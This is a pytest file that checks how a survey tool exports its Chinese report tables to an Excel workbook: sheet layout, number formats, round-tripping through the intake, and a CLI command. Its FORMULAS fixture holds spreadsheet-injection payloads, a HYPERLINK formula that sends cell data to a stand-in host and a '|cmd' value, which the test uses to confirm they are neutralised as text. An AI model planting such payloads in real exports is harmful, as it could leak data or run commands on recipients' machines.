"""The workbook of an edition's tables: each number as its page shows it, text as text, and readable by the intake."""

import io
import json
import re
import subprocess
import sys

import openpyxl
import pytest
from conftest import ROOT

from cxzy_lib.intake.workbook import read_file
from cxzy_lib.publish.annex import FILE, of_edition, tables_of, workbook
from cxzy_lib.publish.html import body_of

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"看")', "+1+1", "-2+3|cmd", "@SUM(A1)", "\x01甲"]
PAGE = (
    '<h1>满意率上升</h1><h2>票数</h2><p>有效票为基数。</p><div class="table-wrap"><table><caption>各组</caption><thead><tr>'
    '<th scope="col">组</th><th scope="col" class="num">有效</th><th scope="col" class="num">率</th></tr></thead><tbody>'
    '<tr><th>群众</th><td class="num">1,022</td><td class="num">92.1%(90.0–94.1%)</td></tr>'
    '<tr><th>党员</th><td class="num">—</td><td class="num">*</td></tr></tbody></table></div>'
    '<section class="method"><h2 id="method">口径</h2><ul><li>最低基数：5</li></ul></section>'
)


def opened(*pages, lang="zh"):
    content = workbook(list(pages), lang, [("单位", "甲校")], "活动")
    return openpyxl.load_workbook(io.BytesIO(content))


def test_a_sheet_says_what_its_table_is_and_holds_numbers():
    book = opened(("满意度", PAGE))
    assert book.sheetnames == ["封面", "目录", "说明", "表1"]
    sheet = book["表1"]
    assert [sheet.cell(row, 1).value for row in range(1, 5)] == [
        "各组",
        "来源：满意度 / 票数",
        "有效票为基数。",
        "* 人数过少，为保护填票人不公布。",
    ]
    assert [cell.value for cell in sheet[6]] == ["组", "有效", "率", "率：下限", "率：上限"]
    assert [(cell.value, cell.number_format) for cell in sheet[7]] == [
        ("群众", "General"),
        (1022, "#,##0"),
        (0.921, "0.0%"),
        (0.9, "0.0%"),
        (0.941, "0.0%"),
    ]
    assert [cell.value for cell in sheet[8]] == ["党员", "—", "*", None, None]
    assert sheet.freeze_panes == "B7"
    assert [cell.value for cell in book["目录"][2]] == ["表1", "满意度", "票数", "各组"]
    assert book["目录"]["A2"].hyperlink.location == "'表1'!A1"
    assert "最低基数：5" in [cell.value for cell in book["说明"]["A"]]


def test_text_that_begins_as_a_formula_is_text():
    cells = "".join(f"<tr><th>{words.replace(chr(34), '&quot;')}</th></tr>" for words in FORMULAS)
    book = opened(("页", f"<table><thead><tr><th>=1+1</th></tr></thead><tbody>{cells}</tbody></table>"))
    column = [row[0] for row in book["表1"].iter_rows(min_row=6)]
    assert [cell.value for cell in column] == ["=1+1", *FORMULAS[:4], "\N{REPLACEMENT CHARACTER}甲"]
    assert {cell.data_type for cell in column} == {"s"}
    assert [cell.quotePrefix for cell in column] == [True] * 5 + [False]


def shown(value, form):
    """Return a number as a page shows it."""
    if isinstance(value, str):
        return value
    places = len(form.rstrip("%").partition(".")[2])
    return f"{100 * value:.{places}f}%" if form.endswith("%") else f"{value:,.{places}f}"


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_every_cell_of_every_page_comes_back_through_the_intake(sample_edition, tmp_path, lang):
    folder = sample_edition[lang]
    pages = json.loads((folder / "manifest.json").read_text("utf-8"))["pages"]
    bodies = {name: body_of((folder / name).read_text("utf-8")) for name in pages}
    (tmp_path / FILE).write_bytes(of_edition(bodies, pages, lang, {"title": "x"}))
    sheets = read_file(tmp_path / FILE).sheets[3:]
    tables = [table for name, body in bodies.items() for table in tables_of(name, body)]
    assert len(sheets) == len(tables) > 40
    formats = openpyxl.load_workbook(tmp_path / FILE)
    for sheet, table in zip(sheets, tables, strict=True):
        forms = formats[sheet.name]
        for at, row in enumerate(table.rows, 7):
            cells = [shown(cell.value, cell.number_format) for cell in forms[at] if cell.value is not None]
            told = [part for words in row for part in parts(words)]
            assert cells == told, (sheet.name, row)
            read = [value for value in sheet.row(at - 1) if value is not None]
            assert read == [cell.value for cell in forms[at] if cell.value is not None]


def parts(words):
    """Return a text of a page as the cells of the workbook: an interval is three, nothing is none."""
    found = re.fullmatch(r"(-?[\d.]+%) ?[(（]([\d.]+)%?(?:–| to )([\d.]+)%?[)）]", words)
    return [found[1], f"{found[2]}%", f"{found[3]}%"] if found else [words] * bool(words)


def test_the_command_writes_it_keeps_it_up_to_date_and_links_it(tmp_path):
    (tmp_path / "notebooks").mkdir()
    book = json.loads((ROOT / "notebooks" / "10_data_quality.ipynb").read_text("utf-8"))
    (tmp_path / "notebooks" / "10_data_quality.ipynb").write_text(json.dumps(book), "utf-8")
    for name in ("campaign", "data"):
        (tmp_path / name).mkdir() if name == "data" else (tmp_path / name).symlink_to(ROOT / name)
    (tmp_path / "data" / "raw").symlink_to(ROOT / "data" / "raw")

    def cxzy(*arguments):
        command = [sys.executable, "-m", "cxzy_lib.cli", *arguments, "--out", "out"]
        return subprocess.run(command, cwd=tmp_path, capture_output=True, text=True, check=False)

    assert cxzy("report").returncode == 0
    out = tmp_path / "out"
    assert not (out / FILE).exists()
    assert FILE not in (out / "index.html").read_text("utf-8")
    assert "0 页新做，1 页未变" in cxzy("run", "--annex").stdout
    assert (out / FILE).stat().st_mode & 0o777 == 0o600
    assert f'href="{FILE}"' in (out / "index.html").read_text("utf-8")
    assert "已是最新" in cxzy("run", "--annex").stdout
    (out / FILE).write_bytes(b"old")
    assert "1 页新做" in cxzy("run", "--force").stdout
    assert openpyxl.load_workbook(out / FILE).sheetnames[:2] == ["封面", "目录"]
